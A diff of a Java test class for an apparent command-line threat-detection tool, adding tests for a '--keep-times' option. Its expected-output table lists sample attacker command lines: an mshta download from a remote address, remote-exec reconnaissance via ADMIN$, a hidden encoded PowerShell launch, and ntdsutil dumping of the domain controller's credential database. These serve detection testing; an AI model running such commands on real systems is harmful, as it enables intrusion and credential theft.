@@ -6,6 +6,7 @@ import io.spawnwatch.CommandRun;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.time.Instant;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 import java.util.stream.Stream;
@@ -20,9 +21,9 @@ class DemoCommandTest {
 
         FIRST SEEN (UTC)     DEST                      USER             SCORE  COUNT  COMMAND LINE                                                MARKS
         2026-11-13 17:41:34  lt-0007.corp.example      CORP\\d.tanaka     49.0      1  mshta.exe http://198.51.100.7/update.hta                    late
-        2026-11-16 09:02:10  srv-files01.corp.example  CORP\\adm.petrov   49.0      1  cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1763283734...
+        2026-11-16 09:02:10  srv-files01.corp.example  CORP\\adm.petrov   49.0      1  cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1794819750...
         2026-11-16 09:02:28  srv-files01.corp.example  CORP\\adm.petrov   49.0      2  cmd.exe /Q /c net group "Domain Admins" /domain 1> \\\\12...
-        2026-11-16 09:02:41  srv-sql02.corp.example    CORP\\adm.petrov   49.0      1  cmd.exe /Q /c tasklist 1> \\\\127.0.0.1\\ADMIN$\\__17632837...
+        2026-11-16 09:02:41  srv-sql02.corp.example    CORP\\adm.petrov   49.0      1  cmd.exe /Q /c tasklist 1> \\\\127.0.0.1\\ADMIN$\\__17948197...
         2026-11-16 09:02:59  srv-sql02.corp.example    CORP\\adm.petrov   49.0      1  powershell.exe -NoP -W Hidden -Enc UwB0AGEAcgB0AC0AUwBs...
         2026-11-16 09:03:08  srv-dc01.corp.example     CORP\\adm.petrov   49.0      1  cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full c:\\...
         2026-11-16 09:03:23  srv-dc01.corp.example     CORP\\adm.petrov   49.0      1  cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full c:\\...
@@ -85,6 +86,36 @@ class DemoCommandTest {
         }
         assertThat(lines).isEqualTo(4_000);
         assertThat(written[written.length - 1]).isEqualTo((byte) '\n');
+    }
+
+    @Test
+    void itsEventsKeepTheirTimesOnRequestOnly(@TempDir Path folder) throws IOException {
+        Path moved = folder.resolve("moved");
+        Path kept = folder.resolve("kept");
+        Instant before = Instant.now();
+        CommandRun.successful("demo", "--write-events", moved.toString());
+        CommandRun.successful("demo", "--write-events", kept.toString(), "--keep-times");
+
+        assertThat(lastTime(kept)).isEqualTo("2026-11-16T10:46:26.221Z");
+        assertThat(Instant.parse(lastTime(moved))).isBetween(before.minusSeconds(60), Instant.now());
+    }
+
+    /** That of the last event that was written by a Winlogbeat, which gives the time in one piece. */
+    private static String lastTime(Path file) throws IOException {
+        return Files.readAllLines(file).stream()
+                .filter(line -> line.startsWith("{\"@timestamp\":"))
+                .filter(line -> !line.contains("kiosk"))
+                .reduce((earlier, later) -> later)
+                .map(line -> line.split("\"", -1)[3])
+                .orElseThrow();
+    }
+
+    @Test
+    void keepingTimesIsRefusedWhereNoEventsAreWritten() {
+        CommandRun run = CommandRun.of("demo", "--keep-times");
+        assertThat(run.exitCode()).isEqualTo(2);
+        assertThat(run.err()).startsWith("--keep-times needs --write-events");
+        assertThat(run.out()).isEmpty();
     }
 
     private static void delete(Path folder) throws IOException {
